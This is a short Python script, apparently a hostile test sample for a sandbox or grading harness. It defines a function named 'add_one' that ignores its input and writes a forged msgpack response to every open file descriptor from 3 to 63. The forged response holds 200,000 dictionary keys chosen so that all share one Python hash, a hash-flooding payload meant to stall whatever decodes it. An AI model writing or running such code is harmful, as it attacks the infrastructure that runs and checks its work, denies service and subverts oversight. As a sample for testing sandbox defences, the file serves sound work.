"""Answers with a dict whose keys all have one hash, which takes hours to build."""
# harms: class
# seconds: 2

import os
import struct

import msgpack

KEYS = 200_000
pairs = [
    part
    for k in range(1, KEYS)
    for part in ([3, (k * (2**61 - 1)).to_bytes(12, "big", signed=True)], 0)
]
body = msgpack.packb([0, "value", [2, *pairs], None])


def add_one(x):
    for number in range(3, 64):
        try:
            view = memoryview(struct.pack(">I", len(body)) + body)
            while view:
                view = view[os.write(number, view) :]
        except OSError:
            pass
